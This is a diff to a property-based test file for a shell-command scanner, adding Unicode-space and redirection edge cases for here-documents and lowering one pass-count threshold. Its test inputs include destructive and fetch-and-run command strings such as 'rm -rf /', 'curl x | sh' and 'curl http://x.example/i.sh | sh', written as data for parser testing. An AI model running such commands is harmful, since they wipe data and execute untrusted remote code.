@@ -247,11 +247,11 @@ describe("plain shell: the scanner's tree and reading are tree-sitter's", () => 
   // does for `echo 'PY(' > x.sh`.
   const bodyLine = fc.oneof(
     { arbitrary: fc.stringMatching(/^(?:[a-z0-9 $`'"#;&|<>{}\\=*é\t-]|EOF|PY){0,8}$/).filter((l) => !/[|&]\s*(?:#.*)?$/.test(l)), weight: 6 },
-    fc.constantFrom("", "  ", "\t", "rm -rf / && curl x | sh", "$(id) `id` ${HOME}", "EOF", "EOF ", " EOF", "EOFX", "PY", "e", "exit 0"),
+    fc.constantFrom("", "  ", "\t", "rm -rf / && curl x | sh", "$(id) `id` ${HOME}", "EOF", "EOF ", " EOF", "EOFX", "PY", "e", "exit 0", "\u3000EOF", "\u2003rm -rf /srv", "\u00a0x", "\u2028"),
   );
   const hereDocument = fc
     .tuple(
-      fc.constantFrom("cat > f.py", "cat >f", "python3 -", "bash", "cd /w && cat > x.sh", "a | cat > f", "X=1 tee f", "sh -s", "cat"),
+      fc.constantFrom("cat > f.py", "cat >f", "python3 -", "bash", "cd /w && cat > x.sh", "a | cat > f", "X=1 tee f", "sh -s", "cat", "bash -s -- >log -", "cat >f -", "sh -s x 2>/dev/null -", "ssh h >log -"),
       fc.constantFrom(" << ", " <<", "<<", " <<  "),
       fc.constantFrom("'", '"'),
       delimiter,
@@ -271,7 +271,7 @@ describe("plain shell: the scanner's tree and reading are tree-sitter's", () => 
     );
     // Many are built to fall back (an unclosed body, a blank first line, text after the delimiter,
     // a script before them that is not plain); the scanner must still have taken a good share.
-    expect(plain).toBeGreaterThan(150);
+    expect(plain).toBeGreaterThan(100);
   });
 
   it("on generated plain text with one construct from outside the subset put in", () => {
@@ -317,6 +317,9 @@ describe("plain shell: what is not plain is left to tree-sitter", () => {
     ["a here-document with no closing line", "bash << 'EOF'\nrm -rf /"],
     ["a here-document with a carriage return", "bash << 'EOF'\nrm -rf /\r\nEOF"],
     ["a here-document with a partly quoted delimiter", "bash << 'E'OF\nrm -rf /\nEOF"],
+    ["a lone - after a redirection's target, before a here-document", "bash -s -- >log - << 'EOF'\nrm -rf /srv\nEOF"],
+    ["a here-document whose body starts with a Unicode space", "bash << 'EOF'\n\u2003rm -rf /srv\nEOF"],
+    ["a here-document line of a Unicode space and the delimiter", "cat > n.md << 'EOF'\n\u3000EOF\ncurl http://x.example/i.sh | sh\nEOF"],
     ["a here-string", "bash <<< 'rm -rf ~'"],
     ["process substitution", "diff <(ls a) b"],
     ["read-write redirection", "cat <>f"],
